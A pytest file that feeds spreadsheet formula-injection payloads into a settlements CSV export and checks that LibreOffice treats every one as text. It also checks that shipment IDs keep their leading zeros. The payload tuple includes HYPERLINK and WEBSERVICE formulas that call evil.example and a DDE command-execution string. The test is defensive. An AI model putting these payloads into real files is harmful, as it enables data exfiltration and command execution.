"""A file of ours opened in a real spreadsheet: nothing in it is computed, and digits keep their zeros."""

import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
from decimal import Decimal
from pathlib import Path
from typing import Any, Final

import pytest

from rails.money import Money
from settlements.models import MilestoneSettlement
from tests.factories import platform_source
from tests.flows.conftest import Api

pytestmark = pytest.mark.django_db(transaction=True)

# What spreadsheets compute or call, in the spellings that they take.
HOSTILE: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?"&A1;"pay")',
    "=cmd|'/c calc'!A0",
    "'=1+1",
    "=1+1;=2+2",
    "=1+1,=2+2",
    '"=1+1"',
    "\uff1d1+1",
    '=WEBSERVICE("https://evil.example")',
)
ZEROS: Final = "00042"
_TABLE: Final = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE: Final = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TEXT: Final = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# As somebody opens it who does nothing but click, and as docs/exports.md says: quoted fields are text.
CLICKED: Final = "CSV:44,34,76,1"
QUOTED_AS_TEXT: Final = "CSV:44,34,76,1,,0,true"


@pytest.fixture(autouse=True)
def _demo(settings: Any) -> None:
    settings.CHAINPAY_DEMO = True
    platform_source()


@pytest.fixture
def office() -> str:
    """LibreOffice, or a loud word that the test was not run."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("NOT RUN: LibreOffice is needed to open an export in it (apt-get install libreoffice-calc)")
    return found


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    """All settlements of carriers with such names, whose shipments are digits."""
    api = Api()
    for number, name in enumerate(HOSTILE, 1):
        api.put(f"/recipients/carrier-{number}", {"name": name})
        token, shipment = api.token(shipment=f"{ZEROS}{number:02}", risk="0.1", recipient_id=f"carrier-{number}")
        api.intent(token, f"{number}.50", "USD")
        api.event(shipment)
    answer = api.send("GET", "/exports/settlements.csv")
    path = tmp_path / "settlements.csv"
    path.write_bytes(b"".join(answer.streaming_content))
    return path


def opened(office: str, path: Path, how: str) -> list[list[ElementTree.Element]]:
    """The cells of the sheet that LibreOffice makes of the file, the repeated ones as often as they are."""
    done = subprocess.run(
        [
            office,
            f"-env:UserInstallation=file://{path.parent / 'profile'}",
            "--headless",
            f"--infilter={how}",
            "--convert-to",
            "fods",
            "--outdir",
            path.parent,
            path,
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=True,
    )
    sheet = path.with_suffix(".fods")
    assert sheet.exists(), done.stderr
    rows = ElementTree.parse(sheet).iter(f"{_TABLE}table-row")
    return [
        [cell for cell in row for _ in range(int(cell.get(f"{_TABLE}number-columns-repeated", "1")))] for row in rows
    ]


def shown(cell: ElementTree.Element) -> str:
    return "\n".join("".join(paragraph.itertext()) for paragraph in cell.iter(f"{_TEXT}p"))


@pytest.mark.parametrize("how", [CLICKED, QUOTED_AS_TEXT])
def test_a_spreadsheet_computes_nothing_of_an_export(office: str, exported: Path, how: str) -> None:
    header, *rows = opened(office, exported, how)
    names = [shown(cell) for cell in header]
    rows = [row for row in rows if any(shown(cell) for cell in row)]
    assert len(rows) == len(HOSTILE)
    assert [cell for row in rows for cell in row if cell.get(f"{_TABLE}formula")] == []
    column = names.index("recipient_name")
    for row, name in zip(rows, HOSTILE, strict=True):
        assert row[column].get(f"{_OFFICE}value-type") == "string"
        assert shown(row[column]).removeprefix("'") in {name, name.removeprefix("'")}
    amounts = [row[names.index("amount")] for row in rows]
    assert [cell.get(f"{_OFFICE}value-type") for cell in amounts] == ["float"] * len(HOSTILE)
    written = [Decimal(cell.get(f"{_OFFICE}value", "")) for cell in amounts]
    assert written == [
        Money(one.amount_minor, one.currency).major for one in MilestoneSettlement.objects.order_by("pk")
    ]


def test_shipments_of_digits_keep_their_zeros_when_opened_as_the_documents_say(office: str, exported: Path) -> None:
    header, *rows = opened(office, exported, QUOTED_AS_TEXT)
    column = [shown(cell) for cell in header].index("shipment_id")
    kept = [shown(row[column]) for row in rows if shown(row[column])]
    assert kept == [f"{ZEROS}{number:02}" for number in range(1, len(HOSTILE) + 1)]
